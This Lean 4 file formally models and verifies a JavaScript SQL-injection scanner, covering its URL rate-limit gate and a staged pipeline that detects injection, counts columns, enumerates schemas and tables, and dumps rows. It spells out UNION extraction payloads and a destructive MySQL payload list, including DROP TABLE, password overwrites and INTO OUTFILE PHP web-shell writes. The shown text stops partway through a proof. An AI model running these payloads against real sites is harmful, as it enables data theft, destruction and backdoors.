import Mathlib

/-!
Verification of the SQL-injection scanner repository.

The development shallowly embeds the JavaScript sources:
  * `src/utils.js`        : `sanitizePayload`, `extractDomain`, helper predicates;
  * `src/config.js`       : `validateItem` and the advanced MySQL payload list;
  * `url-store.js`        : the `URLStore` candidate gate (dedup + per-domain
                            rate limiting with cooldown reset);
  * `sql-injection.js`    : the multi-stage exploitation pipeline
                            (`testSQLInjection` and its stages).

JavaScript strings are Lean `String`s, JS `Set`s are duplicate-free `List`s
with insertion-order append (`addS`), JS `Map`s are association lists with
`Map.set` semantics (`setA` / `lookupA`), timestamps are `Int` (so that
`Date.now() - last` keeps JS signed semantics), and the HTTP transport is an
explicit collaborator function from a request (the URL's query parameters)
to `Except` (a thrown axios error, or a response body).  Fallible JS code is
embedded in `Except String`.
-/

/-! ### Generic association-list / set helpers (JS `Map` / `Set`) -/

/-- JS `Map.get` on an association list: value of the first entry with key `k`. -/
def lookupA {α : Type} (k : String) : List (String × α) → Option α
  | [] => none
  | (k1, v) :: rest => if k1 = k then some v else lookupA k rest

/-- Drop every entry with key `k`. -/
def eraseKeyA {α : Type} (k : String) : List (String × α) → List (String × α)
  | [] => []
  | (k1, v1) :: rest =>
    if k1 = k then eraseKeyA k rest else (k1, v1) :: eraseKeyA k rest

/-- JS `Map.set` / `URLSearchParams.set`: replace the value of the first entry
with key `k` (dropping later duplicates of `k`), appending when absent. -/
def setA {α : Type} (k : String) (v : α) : List (String × α) → List (String × α)
  | [] => [(k, v)]
  | (k1, v1) :: rest =>
    if k1 = k then (k, v) :: eraseKeyA k rest
    else (k1, v1) :: setA k v rest

/-- JS `Set.add`: append the element unless already present (insertion order). -/
def addS (x : String) (l : List String) : List String :=
  if x ∈ l then l else l ++ [x]

/-- Test whether the first list is an initial segment of the second. -/
def startsList : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | p :: ps, c :: cs => p == c && startsList ps cs

/-- JS `String.includes` on character lists: `pat` occurs as a contiguous
substring. -/
def hasSubList (pat : List Char) : List Char → Bool
  | [] => startsList pat []
  | c :: rest => startsList pat (c :: rest) || hasSubList pat rest

/-- JS `String.includes pat` for Lean strings. -/
def hasSubS (pat s : String) : Bool := hasSubList pat.data s.data

/-! ### `src/utils.js` -/

/-- The whitespace characters relevant to JS `String.trim` for this code base
(payload strings only ever contain these whitespace code points). -/
def jsWs (c : Char) : Bool := c = ' ' || c = '\t' || c = '\n' || c = '\r'

/-- The substitution `payload.replace(/[\r\n;]/g, '')`. -/
def stripCRLFSemi (l : List Char) : List Char :=
  l.filter (fun c => ¬(c = '\r' ∨ c = '\n' ∨ c = ';'))

/-- JS `String.trim`: drop whitespace at both ends. -/
def trimChars (l : List Char) : List Char :=
  ((l.dropWhile jsWs).reverse.dropWhile jsWs).reverse

/-- The pure transformation part of `sanitizePayload`:
`payload.replace(/[\r\n;]/g, '').trim()`. -/
def sanitizeChars (l : List Char) : List Char := trimChars (stripCRLFSemi l)

/-- A JS value passed where a string is expected: either a string or some
non-string value (whose identity is irrelevant to the embedded code). -/
inductive JsItem
  | str (s : String)
  | nonString
deriving DecidableEq

/-- Embeds `sanitizePayload(payload, maxLength)` from `src/utils.js`: throws when the
argument is not a string or is longer than `maxLength`; otherwise removes
`\r`, `\n` and `;` and trims whitespace. -/
def sanitizePayload (item : JsItem) (maxLength : Nat) : Except String String :=
  match item with
  | .nonString => .error "Payload must be a string"
  | .str s =>
    if s.length > maxLength then .error "Payload exceeds maximum length"
    else .ok (String.mk (sanitizeChars s.data))

/-! ### Marker extraction (`sql-injection.js`, `extractDataFromResponse` /
`extractListFromResponse`)

The regex `/([a-zA-Z0-9_.-]+)::/` captures a maximal nonempty run of
characters from the class, immediately followed by `::`.  Because `:` is not
in the class, backtracking inside the run can never help, so the JS engine's
leftmost-match search is equivalent to the linear scan below: accumulate the
current run; on `::` after a nonempty run, emit it; on any other breaking
character, restart. -/

/-- One character of the class `[a-zA-Z0-9_.-]`. -/
def classChar (c : Char) : Bool := c.isAlphanum || c = '_' || c = '.' || c = '-'

/-- All matches (capture groups) of `/([a-zA-Z0-9_.-]+)::/g` in order, with
the scan resuming after each matched `::` exactly as the JS engine's
`lastIndex` does.  `acc` is the current (reversed) run of class characters. -/
def scanMarkers (acc : List Char) : List Char → List (List Char)
  | [] => []
  | [_] => []
  | c1 :: c2 :: rest =>
    if classChar c1 then scanMarkers (c1 :: acc) (c2 :: rest)
    else if c1 = ':' ∧ c2 = ':' then
      if acc.isEmpty then scanMarkers [] rest
      else acc.reverse :: scanMarkers [] rest
    else scanMarkers [] (c2 :: rest)

/-- Embeds `extractDataFromResponse(responseText)`: the capture group of the first
match of `/([a-zA-Z0-9_.-]+)::/`, or `null`. -/
def extractDataFromResponse (responseText : String) : Option String :=
  (scanMarkers [] responseText.data).head?.map String.mk

/-- Embeds `extractListFromResponse(responseText)`: every global match, with its
trailing `::` removed, filtered to items that do not trim to empty. -/
def extractListFromResponse (responseText : String) : List String :=
  ((scanMarkers [] responseText.data).map String.mk).filter
    (fun item => ¬(trimChars item.data = []))

/-! ### `src/config.js`: `validateItem` and the payload catalog -/

/-- Embeds `validateItem(item, type)`: rejects non-strings and strings that trim to
empty; everything else passes.  The DBMS-signature classification and the
destructive-statement patterns in the source only produce log lines and do
not influence the returned value, so they do not appear here. -/
def validateItem (item : JsItem) (ty : String) : Bool :=
  match item, ty with
  | .nonString, _ => false
  | .str s, _ => ¬((trimChars s.data).length = 0)

/-- The list `PAYLOADS.advanced.mysql` from `src/config.js`, the destructive payload
category whose members validation flags but never removes. -/
def ADVANCED_MYSQL : List String :=
  ["'; DROP TABLE users--",
   "'; UPDATE users SET password='hacked' WHERE username='admin'--",
   "'; INSERT INTO users (username,password) VALUES ('hacker','pwned')--",
   "'; SELECT '<?php system($_GET[\"cmd\"]);?>' INTO OUTFILE '/var/www/shell.php'--",
   "'; SELECT '<?php eval($_POST[\"code\"]);?>' INTO OUTFILE '/var/www/backdoor.php'--",
   "'; TRUNCATE TABLE users--",
   "'; ALTER TABLE users ADD COLUMN backdoor VARCHAR(255)--"]

/-! ### `url-store.js`: the candidate gate -/

/-- A successfully parsed URL (`new URL(...)`), with the pieces the gate
reads: `origin`, `hostname`, `pathname` and the query parameters. -/
structure JsUrl where
  origin : String
  hostname : String
  pathname : String
  params : List (String × String)
deriving DecidableEq

/-- A URL string handed to the gate: either it parses to a `JsUrl`, or
`new URL(url)` throws and only the raw string is available. -/
inductive UrlInput
  | valid (u : JsUrl)
  | invalid (raw : String)
deriving DecidableEq

/-- Embeds `URLStore.normalizeUrl`: for a parsable URL, deleting the tracking
parameters touches only the query string, and the result is
`origin + pathname`; for an unparsable URL the raw string is returned. -/
def normalizeUrl : UrlInput → String
  | .valid u => u.origin ++ u.pathname
  | .invalid raw => raw

/-- Embeds `URLStore.getDomain` / `extractDomain` (`src/utils.js`): the
`hostname` of a parsable URL, otherwise `null`. -/
def getDomain : UrlInput → Option String
  | .valid u => some u.hostname
  | .invalid _ => none

/-- Embeds the `URLStore` state together with its two configuration fields
(`config.maxPathsPerDomain`, `config.cooldownPeriod`). -/
structure URLStore where
  maxPathsPerDomain : Nat
  cooldownPeriod : Int
  testedUrls : List String
  vulnerableUrls : List (String × List String)
  seenDomains : List (String × List String)
  lastTestedTime : List (String × Int)
deriving DecidableEq

/-- Embeds `URLStore.isUrlTested(url)` at time `now` (`Date.now()`).  Besides
the answer it returns the store, because the cooldown-elapsed branch clears
the domain's path set and refreshes `lastTestedTime` in place. -/
def isUrlTested (s : URLStore) (url : UrlInput) (now : Int) : Bool × URLStore :=
  let normalizedUrl := normalizeUrl url
  if normalizedUrl ∈ s.testedUrls then (true, s)
  else
    match getDomain url with
    | none => (false, s)
    | some domain =>
      match lookupA domain s.seenDomains with
      | none => (false, s)
      | some paths =>
        if paths.length ≥ s.maxPathsPerDomain then
          let lastTest := (lookupA domain s.lastTestedTime).getD 0
          if now - lastTest < s.cooldownPeriod then (true, s)
          else (false, { s with seenDomains := setA domain [] s.seenDomains,
                                lastTestedTime := setA domain now s.lastTestedTime })
        else (false, s)

/-- Embeds `URLStore.markUrlAsTested(url)` at time `now`: record the
normalized URL globally and, when the URL has a domain, add its pathname to
the domain's path set and refresh `lastTestedTime`. -/
def markUrlAsTested (s : URLStore) (url : UrlInput) (now : Int) : URLStore :=
  let s1 := { s with testedUrls := addS (normalizeUrl url) s.testedUrls }
  match url with
  | .invalid _ => s1
  | .valid u =>
    let paths := (lookupA u.hostname s1.seenDomains).getD []
    { s1 with seenDomains := setA u.hostname (addS u.pathname paths) s1.seenDomains,
              lastTestedTime := setA u.hostname now s1.lastTestedTime }

/-- One admit/commit round of the gate protocol (spec §4.1/§5): the admission
check runs, and on admission the commit follows with no suspension point in
between.  Returns whether the URL was admitted. -/
def submitStep (s : URLStore) (url : UrlInput) (now : Int) : Bool × URLStore :=
  let r := isUrlTested s url now
  if r.1 then (false, r.2) else (true, markUrlAsTested r.2 url now)

/-- Run a sequence of admit/commit rounds. -/
def runOps (s : URLStore) : List (UrlInput × Int) → URLStore
  | [] => s
  | (u, t) :: rest => runOps (submitStep s u t).2 rest

/-- The `DomainRecord` invariant of spec §3: no domain's tested-path set
exceeds `maxPathsPerDomain`. -/
def StoreInv (s : URLStore) : Prop :=
  ∀ d ps, lookupA d s.seenDomains = some ps → ps.length ≤ s.maxPathsPerDomain

/-! ### `sql-injection.js`: the exploitation pipeline

A request is identified by the query parameters actually sent (origin and
path never change).  The transport collaborator either throws (axios error,
timeout, status ≥ 500) or returns a response body.  Each embedded stage also
returns the trace of issued requests, paired with the `SQLInjectionResult`
state right after the corresponding response was processed; this records the
sequence of intermediate states of the in-place mutations of the source. -/

abbrev Params := List (String × String)

abbrev Transport := Params → Except String String

/-- Embeds the `SQLInjectionResult` record built by `testSQLInjection`
(`databaseInfo` is flattened into its three fields). -/
structure SQLRes where
  vulnerable : Bool
  columns : List String
  tables : List String
  databases : List String
  tableData : List (String × List String)
  dbVersion : Option String
  dbUser : Option String
  dbCurrent : Option String
  successfulPayloads : List String
deriving DecidableEq

/-- The freshly initialised result object of `testSQLInjection`. -/
def initRes : SQLRes :=
  { vulnerable := false, columns := [], tables := [], databases := [],
    tableData := [], dbVersion := none, dbUser := none, dbCurrent := none,
    successfulPayloads := [] }

/-- Lowercasing as `String.toLowerCase()` (character-wise, ASCII). -/
def toLowerS (s : String) : String := String.mk (s.data.map Char.toLower)

/-- The detection classifier of `testBasicVulnerability`:
`response.data.toLowerCase().match(/sql|error|syntax/i)`. -/
def detectionSig (body : String) : Bool :=
  hasSubS "sql" (toLowerS body) || hasSubS "error" (toLowerS body) ||
    hasSubS "syntax" (toLowerS body)

/-- The acceptance test of `findColumnCount`:
`!response.data.toLowerCase().includes('error')`. -/
def colAccept (body : String) : Bool := ¬(hasSubS "error" (toLowerS body))

/-- How the per-parameter probe loop of `testBasicVulnerability` /
`findColumnCount` ended. -/
inductive ProbeEnd
  | hit
  | err
  | exhausted
deriving DecidableEq

/-- The shared inner loop of `testBasicVulnerability` and `findColumnCount`:
`for (const [param] of testUrl.searchParams) { testUrl.searchParams.set(param,
v); ... }`.  The substitution is cumulative — earlier parameters keep the
injected value while later ones are probed.  Stops at the first body accepted
by `accept` (`hit`), or at a thrown request (`err`, the enclosing `catch`),
else runs out of parameters (`exhausted`).  Also returns the issued requests. -/
def probeParamsLoop (t : Transport) (accept : String → Bool) (v : String) :
    List String → Params → ProbeEnd × List Params
  | [], _ => (.exhausted, [])
  | k :: ks, ps =>
    let ps1 := setA k v ps
    match t ps1 with
    | .error _ => (.err, [ps1])
    | .ok body =>
      if accept body then (.hit, [ps1])
      else
        let r := probeParamsLoop t accept v ks ps1
        (r.1, ps1 :: r.2)

/-- Embeds `testBasicVulnerability`: iterate the detection payloads in order;
sanitize (outside the `try`, so a sanitizer throw propagates); probe every
query parameter; on the first signature match return the sanitized payload
(the source pushes it onto `result.successfulPayloads` and returns `true`);
a thrown request abandons the current payload and continues with the next. -/
def testBasicVulnerability (t : Transport) (keys : List String) (ps0 : Params)
    (maxLen : Nat) : List String → Except String (Option String × List Params)
  | [] => .ok (none, [])
  | p :: rest => do
    let sp ← sanitizePayload (.str p) maxLen
    match probeParamsLoop t detectionSig sp keys ps0 with
    | (.hit, tr) => .ok (some sp, tr)
    | (.err, tr) | (.exhausted, tr) =>
      let r ← testBasicVulnerability t keys ps0 maxLen rest
      .ok (r.1, tr ++ r.2)

/-- The loop body of `findColumnCount` with the running payload index `i`
(the source's `for (let i = 0; ...)`). -/
def findColumnCountAux (t : Transport) (keys : List String) (ps0 : Params)
    (maxLen : Nat) : Nat → List String → Except String (Nat × List Params)
  | _, [] => .ok (0, [])
  | i, p :: rest => do
    let sp ← sanitizePayload (.str p) maxLen
    match probeParamsLoop t colAccept sp keys ps0 with
    | (.hit, tr) => .ok (i + 1, tr)
    | (.err, tr) | (.exhausted, tr) =>
      let r ← findColumnCountAux t keys ps0 maxLen (i + 1) rest
      .ok (r.1, tr ++ r.2)

/-- Embeds `findColumnCount`: the first index `i` (1-based result `i+1`)
whose UNION probe draws a response without the error signature; `0` when no
probe is accepted. -/
def findColumnCount (t : Transport) (keys : List String) (ps0 : Params)
    (maxLen : Nat) (payloads : List String) : Except String (Nat × List Params) :=
  findColumnCountAux t keys ps0 maxLen 0 payloads

/-- Renders `Array(n).fill('NULL').join(',')`. -/
def nullsJoin (n : Nat) : String := String.intercalate "," (List.replicate n "NULL")

/-- The three system-info probes of `extractSystemInfo`. -/
inductive InfoKey
  | version
  | user
  | currentDb
deriving DecidableEq

/-- The SQL expression injected for each system-info key. -/
def infoFn : InfoKey → String
  | .version => "@@version"
  | .user => "user()"
  | .currentDb => "database()"

/-- The payload template of `extractSystemInfo`. -/
def sysInfoPayloadFor (key : InfoKey) (columnCount : Nat) : String :=
  "' UNION SELECT " ++ infoFn key ++ "," ++ nullsJoin (columnCount - 1) ++ "--"

/-- Writes `result.databaseInfo[key] = data`. -/
def setInfoField (res : SQLRes) (key : InfoKey) (v : String) : SQLRes :=
  match key with
  | .version => { res with dbVersion := some v }
  | .user => { res with dbUser := some v }
  | .currentDb => { res with dbCurrent := some v }

/-- The per-parameter loop of `extractSystemInfo` for one key: each response
with a marker overwrites the field; a thrown request ends the loop for this
key (caught and logged). -/
def sysKeyLoop (t : Transport) (v : String) (key : InfoKey) :
    List String → Params → SQLRes → SQLRes × List (Params × SQLRes)
  | [], _, res => (res, [])
  | k :: ks, ps, res =>
    let ps1 := setA k v ps
    match t ps1 with
    | .error _ => (res, [(ps1, res)])
    | .ok body =>
      let res1 := match extractDataFromResponse body with
                  | some d => setInfoField res key d
                  | none => res
      let r := sysKeyLoop t v key ks ps1 res1
      (r.1, (ps1, res1) :: r.2)

/-- Embeds `extractSystemInfo`: version, user and current database in order;
the sanitizer runs outside the `try`, so its throw propagates. -/
def extractSystemInfo (t : Transport) (keys : List String) (ps0 : Params)
    (cc maxLen : Nat) : List InfoKey → SQLRes →
    Except String (SQLRes × List (Params × SQLRes))
  | [], res => .ok (res, [])
  | key :: rest, res => do
    let sp ← sanitizePayload (.str (sysInfoPayloadFor key cc)) maxLen
    let r1 := sysKeyLoop t sp key keys ps0 res
    let r2 ← extractSystemInfo t keys ps0 cc maxLen rest r1.1
    .ok (r2.1, r1.2 ++ r2.2)

/-- The schema-enumeration payload of `extractDatabaseSchemas`. -/
def schemaPayload (columnCount : Nat) : String :=
  "' UNION SELECT CONCAT(schema_name,'::')," ++ nullsJoin (columnCount - 1) ++
    " FROM information_schema.schemata--"

/-- The per-parameter loop of `extractDatabaseSchemas`: every response's
marker list, filtered of built-in schemas, is added to `result.databases`;
a thrown request ends the stage (the `try` wraps the whole loop). -/
def schemaKeyLoop (t : Transport) (v : String) :
    List String → Params → SQLRes → SQLRes × List (Params × SQLRes)
  | [], _, res => (res, [])
  | k :: ks, ps, res =>
    let ps1 := setA k v ps
    match t ps1 with
    | .error _ => (res, [(ps1, res)])
    | .ok body =>
      let schemas := (extractListFromResponse body).filter
        (fun sc => ¬(hasSubS "information_schema" sc) ∧ ¬(hasSubS "mysql" sc))
      let res1 := { res with databases := schemas.foldl (fun l x => addS x l) res.databases }
      let r := schemaKeyLoop t v ks ps1 res1
      (r.1, (ps1, res1) :: r.2)

/-- Embeds `extractDatabaseSchemas` (sanitizer outside the `try`). -/
def extractDatabaseSchemas (t : Transport) (keys : List String) (ps0 : Params)
    (cc maxLen : Nat) (res : SQLRes) :
    Except String (SQLRes × List (Params × SQLRes)) := do
  let sp ← sanitizePayload (.str (schemaPayload cc)) maxLen
  .ok (schemaKeyLoop t sp keys ps0 res)

/-- The table-list payload of `extractDatabaseStructure`. -/
def tablePayload (dbName : String) (columnCount : Nat) : String :=
  "' UNION SELECT CONCAT(table_name,'::')," ++ nullsJoin (columnCount - 1) ++
    " FROM information_schema.tables WHERE table_schema='" ++ dbName ++ "'--"

/-- The column-list payload of `extractDatabaseStructure`. -/
def columnPayload (dbName tableName : String) (columnCount : Nat) : String :=
  "' UNION SELECT CONCAT(column_name,'::')," ++ nullsJoin (columnCount - 1) ++
    " FROM information_schema.columns WHERE table_schema='" ++ dbName ++
    "' AND table_name='" ++ tableName ++ "'--"

/-- The per-table inner loop of `extractDatabaseStructure` under parameter
key `k`: add the table, probe its columns (the column payload replaces the
current value of `k`, so the mutated `testUrl` carries over), and push the
qualified `db.table.column` names.  The returned flag is `false` when a
throw was caught, which aborts the whole stage for this database. -/
def structTableLoop (t : Transport) (db : String) (cc maxLen : Nat) (k : String) :
    List String → Params → SQLRes → Bool × Params × SQLRes × List (Params × SQLRes)
  | [], ps, res => (true, ps, res, [])
  | table :: rest, ps, res =>
    let res1 := { res with tables := addS table res.tables }
    match sanitizePayload (.str (columnPayload db table cc)) maxLen with
    | .error _ => (false, ps, res1, [])
    | .ok cp =>
      let ps1 := setA k cp ps
      match t ps1 with
      | .error _ => (false, ps1, res1, [(ps1, res1)])
      | .ok body =>
        let cols := extractListFromResponse body
        let res2 := { res1 with columns :=
          res1.columns ++ cols.map (fun c => db ++ "." ++ table ++ "." ++ c) }
        let r := structTableLoop t db cc maxLen k rest ps1 res2
        (r.1, r.2.1, r.2.2.1, (ps1, res2) :: r.2.2.2)

/-- The per-parameter outer loop of `extractDatabaseStructure`: probe the
table list under the current key, then walk the tables; any caught throw
ends the stage, keeping what was already recorded. -/
def structKeyLoop (t : Transport) (db : String) (cc maxLen : Nat) (tp : String) :
    List String → Params → SQLRes → SQLRes × List (Params × SQLRes)
  | [], _, res => (res, [])
  | k :: ks, ps, res =>
    let ps1 := setA k tp ps
    match t ps1 with
    | .error _ => (res, [(ps1, res)])
    | .ok body =>
      let tables := extractListFromResponse body
      let r := structTableLoop t db cc maxLen k tables ps1 res
      if r.1 then
        let r2 := structKeyLoop t db cc maxLen tp ks r.2.1 r.2.2.1
        (r2.1, (ps1, res) :: r.2.2.2 ++ r2.2)
      else (r.2.2.1, (ps1, res) :: r.2.2.2)

/-- Embeds `extractDatabaseStructure` for one database (the table-payload
sanitizer runs outside the `try`, so its throw propagates). -/
def extractDatabaseStructure (t : Transport) (keys : List String) (ps0 : Params)
    (cc : Nat) (db : String) (maxLen : Nat) (res : SQLRes) :
    Except String (SQLRes × List (Params × SQLRes)) := do
  let tp ← sanitizePayload (.str (tablePayload db cc)) maxLen
  .ok (structKeyLoop t db cc maxLen tp keys ps0 res)

/-- Runs `extractDatabaseStructure` over the discovered databases (the
source dispatches them through `pLimit`; scheduling is cooperative and the
transport is a function, so the runs compose sequentially). -/
def extractStructures (t : Transport) (keys : List String) (ps0 : Params)
    (cc maxLen : Nat) : List String → SQLRes →
    Except String (SQLRes × List (Params × SQLRes))
  | [], res => .ok (res, [])
  | db :: rest, res => do
    let r1 ← extractDatabaseStructure t keys ps0 cc db maxLen res
    let r2 ← extractStructures t keys ps0 cc maxLen rest r1.1
    .ok (r2.1, r1.2 ++ r2.2)

/-- JS `col.split('.').pop()`: the segment after the last dot. -/
def lastSeg (s : String) : String :=
  String.mk ((s.data.reverse.takeWhile (fun c => ¬(c = '.'))).reverse)

/-- The row-dump payload of `dumpAllTables`. -/
def dumpPayloadFor (cols : List String) (tableName : String) (columnCount : Nat) : String :=
  "' UNION SELECT CONCAT_WS('::'," ++ String.intercalate "," (cols.map lastSeg) ++
    ")," ++ nullsJoin (columnCount - 1) ++ " FROM " ++ tableName ++ "--"

/-- The per-parameter loop of one table's dump: a nonempty marker list
replaces (`Map.set`) the table's entry in `result.tableData`; a thrown
request ends this table's loop (caught per table). -/
def dumpKeyLoop (t : Transport) (dp tableName : String) :
    List String → Params → SQLRes → SQLRes × List (Params × SQLRes)
  | [], _, res => (res, [])
  | k :: ks, ps, res =>
    let ps1 := setA k dp ps
    match t ps1 with
    | .error _ => (res, [(ps1, res)])
    | .ok body =>
      let data := extractListFromResponse body
      let res1 := if data.isEmpty then res
                  else { res with tableData := setA tableName data res.tableData }
      let r := dumpKeyLoop t dp tableName ks ps1 res1
      (r.1, (ps1, res1) :: r.2)

/-- Embeds `dumpAllTables` over the snapshot of `result.tables`: tables with
no known column are skipped without a request; the dump-payload sanitizer
runs outside the per-table `try`, so its throw rejects the whole stage. -/
def dumpAllTables (t : Transport) (keys : List String) (ps0 : Params)
    (cc maxLen : Nat) : List String → SQLRes →
    Except String (SQLRes × List (Params × SQLRes))
  | [], res => .ok (res, [])
  | table :: rest, res =>
    let cols := res.columns.filter (fun c => hasSubS table c)
    if cols.isEmpty then dumpAllTables t keys ps0 cc maxLen rest res
    else do
      let dp ← sanitizePayload (.str (dumpPayloadFor cols table cc)) maxLen
      let r1 := dumpKeyLoop t dp table keys ps0 res
      let r2 ← dumpAllTables t keys ps0 cc maxLen rest r1.1
      .ok (r2.1, r1.2 ++ r2.2)

/-- Embeds `testSQLInjection(url)` for a URL that passed `validateUrl`, over
an explicit transport and the detection / column payload catalogs it imports.
Returns the final result object and the full trace of issued requests with
the intermediate result states (file persistence is external and elided).
On a miss the scan stops with the fresh result; a column count of `0` stops
after detection (`columnCount <= 0` aborts extraction). -/
def testSQLInjection (t : Transport) (ps0 : Params)
    (detPayloads colPayloads : List String) (maxLen : Nat) :
    Except String (SQLRes × List (Params × SQLRes)) := do
  let keys := ps0.map Prod.fst
  let r1 ← testBasicVulnerability t keys ps0 maxLen detPayloads
  match r1.1 with
  | none => .ok (initRes, r1.2.map (fun p => (p, initRes)))
  | some sp =>
    let res1 : SQLRes := { initRes with vulnerable := true, successfulPayloads := [sp] }
    let steps1 := r1.2.map (fun p => (p, initRes))
    let r2 ← findColumnCount t keys ps0 maxLen colPayloads
    let steps2 := r2.2.map (fun p => (p, res1))
    if r2.1 = 0 then .ok (res1, steps1 ++ steps2)
    else do
      let r3 ← extractSystemInfo t keys ps0 r2.1 maxLen
        [InfoKey.version, InfoKey.user, InfoKey.currentDb] res1
      let r4 ← extractDatabaseSchemas t keys ps0 r2.1 maxLen r3.1
      let r5 ← extractStructures t keys ps0 r2.1 maxLen r4.1.databases r4.1
      let r6 ← dumpAllTables t keys ps0 r2.1 maxLen r5.1.tables r5.1
      .ok (r6.1, steps1 ++ steps2 ++ r3.2 ++ r4.2 ++ r5.2 ++ r6.2)

/-- The sequence of result states of one `testSQLInjection` run: the fresh
result, the state after each issued request, and the returned result. -/
def stateList (steps : List (Params × SQLRes)) (final : SQLRes) : List SQLRes :=
  initRes :: steps.map Prod.snd ++ [final]

/-! ### Concrete payload catalogs and stub transports used by the claims -/

/-- Modelled from the spec: `COLUMN_PAYLOADS`, imported by `sql-injection.js`
from `./config.js`, has no definition in the sources (`config.js` exports
only `PAYLOADS`).  Spec §4.3 describes it as ascending UNION probes with `N`
null columns, `N = 1..K`; the first eight entries of
`PAYLOADS.column.mysql` have exactly this shape. -/
def COLUMN_PAYLOADS : List String :=
  (List.range 8).map (fun n => "' UNION ALL SELECT " ++ nullsJoin (n + 1) ++ "--")

/-- A one-element detection catalog (the head of `PAYLOADS.detection.mysql`)
for the concrete end-to-end runs. -/
def DET1 : List String := ["' OR '1'='1"]

/-- Stub transport for the end-to-end run of spec §8: error signature for the
detection payload, clean body for the 2-column UNION probe, `"mydb::"` for
the schema-enumeration probe, a clean page for everything else. -/
def stub1 : Transport := fun ps =>
  match lookupA "id" ps with
  | none => .ok "Welcome to the site"
  | some v =>
    if v = "' OR '1'='1" then .ok "You have an error in your SQL syntax"
    else if v = "' UNION ALL SELECT NULL--" then .ok "Database error near line 1"
    else if v = schemaPayload 2 then .ok "mydb::"
    else .ok "Welcome to the site"

/-- Query parameters of the single-parameter test URL. -/
def ps1 : Params := [("id", "1")]


/-- Query parameters of the two-parameter test URL. -/
def ps2 : Params := [("a", "1"), ("b", "2")]

/-- Stub transport for a two-parameter URL: table `users` with column `id`
is discovered, and the two per-parameter dump probes of `users` return two
different row lists, so the second overwrites the first. -/
def stub2 : Transport := fun ps =>
  match lookupA "a" ps, lookupA "b" ps with
  | some va, some vb =>
    if va = "' OR '1'='1" then .ok "You have an error in your SQL syntax"
    else if va = "' UNION ALL SELECT NULL--" then .ok "Database error near line 1"
    else if va = schemaPayload 2 then .ok "mydb::"
    else if va = tablePayload "mydb" 2 then .ok "users::"
    else if va = columnPayload "mydb" "users" 2 ∧ vb = "2" then .ok "id::"
    else if va = dumpPayloadFor ["mydb.users.id"] "users" 2 ∧ vb = "2" then .ok "row1::"
    else if va = dumpPayloadFor ["mydb.users.id"] "users" 2 ∧
              vb = dumpPayloadFor ["mydb.users.id"] "users" 2 then .ok "row2::"
    else .ok "Welcome to the site"
  | _, _ => .ok "Welcome to the site"


/-- A transport whose responses never match any signature and never throw. -/
def cleanT : Transport := fun _ => .ok "nothing to see here"

/-- Stub transport of spec §8 for column discovery: the error signature for
UNION probes of arity below 3, a clean body from arity 3 on. -/
def stubCol : Transport := fun ps =>
  match lookupA "id" ps with
  | none => .ok "Welcome"
  | some v =>
    if v = "' UNION ALL SELECT " ++ nullsJoin 1 ++ "--" ∨
       v = "' UNION ALL SELECT " ++ nullsJoin 2 ++ "--" then
      .ok "You have an error in your SQL syntax"
    else .ok "Welcome"


/-- A transport where every request throws (connection failure). -/
def errT : Transport := fun _ => .error "timeout"

/-- The result of a scan that confirmed the vulnerability with evidence `ev`
and then stopped (zero columns found). -/
def vulnOnly (ev : String) : SQLRes :=
  { initRes with vulnerable := true, successfulPayloads := [ev] }

/-! ### Concrete gate scenario (spec §8, third bullet) -/

/-- Three distinct paths on one domain, plus a fourth for the post-cooldown
submission. -/
def urlA : UrlInput := .valid ⟨"http://ex.com", "ex.com", "/a", [("id", "1")]⟩

def urlB : UrlInput := .valid ⟨"http://ex.com", "ex.com", "/b", [("id", "1")]⟩

def urlC : UrlInput := .valid ⟨"http://ex.com", "ex.com", "/c", [("id", "1")]⟩

def urlD : UrlInput := .valid ⟨"http://ex.com", "ex.com", "/d", [("id", "1")]⟩

/-- A fresh store with `maxPathsPerDomain = 2` and `cooldownPeriod = 5000`. -/
def gateCfgStore : URLStore :=
  { maxPathsPerDomain := 2, cooldownPeriod := 5000, testedUrls := [],
    vulnerableUrls := [], seenDomains := [], lastTestedTime := [] }

/-- State after the first admitted submission (`/a` at `t = 0`). -/
def gate1 : URLStore := (submitStep gateCfgStore urlA 0).2

/-- State after the second admitted submission (`/b` at `t = 1`). -/
def gate2 : URLStore := (submitStep gate1 urlB 1).2

/-- State after the rejected third submission (`/c` at `t = 2`). -/
def gate3 : URLStore := (submitStep gate2 urlC 2).2

/-- A store whose domain `ex.com` is at its path cap with an expired
cooldown, and whose global tested set already holds `http://ex.com/a`. -/
def storeC9 : URLStore :=
  { maxPathsPerDomain := 2, cooldownPeriod := 5000,
    testedUrls := ["http://ex.com/a"], vulnerableUrls := [],
    seenDomains := [("ex.com", ["/a", "/b"])], lastTestedTime := [("ex.com", 0)] }

/-- The same store without the global tested entry. -/
def storeC9b : URLStore :=
  { maxPathsPerDomain := 2, cooldownPeriod := 5000, testedUrls := [],
    vulnerableUrls := [], seenDomains := [("ex.com", ["/a", "/b"])],
    lastTestedTime := [("ex.com", 0)] }

/-! ### Growth and request-purity predicates -/

/-- The second list extends the first by appending. -/
def appendEx (a b : List String) : Prop := ∃ t, b = a ++ t

/-- Monotone growth between two result states: the `databases` / `tables`
sets and the `columns` / `successfulPayloads` sequences only gain appended
entries, and `tableData` never loses a key (its values may change). -/
def GrowsA (r r2 : SQLRes) : Prop :=
  appendEx r.databases r2.databases ∧ appendEx r.tables r2.tables ∧
  appendEx r.columns r2.columns ∧
  appendEx r.successfulPayloads r2.successfulPayloads ∧
  ∀ k, (lookupA k r.tableData).isSome = true → (lookupA k r2.tableData).isSome = true

/-- Consecutive states of a run grow monotonically. -/
def ChainG : List SQLRes → Prop
  | [] => True
  | [_] => True
  | a :: b :: rest => GrowsA a b ∧ ChainG (b :: rest)

/-- A parameter value that went through `sanitizePayload` under `maxLen`:
bounded length and free of `;`, `\r`, `\n`. -/
def GoodVal (maxLen : Nat) (v : String) : Prop :=
  v.length ≤ maxLen ∧ ∀ c ∈ v.data, ¬(c = ';' ∨ c = '\r' ∨ c = '\n')

/-- Every parameter of an issued request is either an original parameter of
the URL or carries a sanitized payload. -/
def GoodReq (orig : Params) (maxLen : Nat) (ps : Params) : Prop :=
  ∀ kv ∈ ps, kv ∈ orig ∨ GoodVal maxLen kv.2

/-! ## Helper lemmas about the JS container operations -/

theorem lookupA_eraseKeyA {α : Type} (k k2 : String) (l : List (String × α))
    (h : ¬(k2 = k)) : lookupA k2 (eraseKeyA k l) = lookupA k2 l := by
  have hks : ¬(k = k2) := fun hc => h hc.symm
  induction l with
  | nil => rfl
  | cons hd tl ih =>
    cases hd with
    | mk a b =>
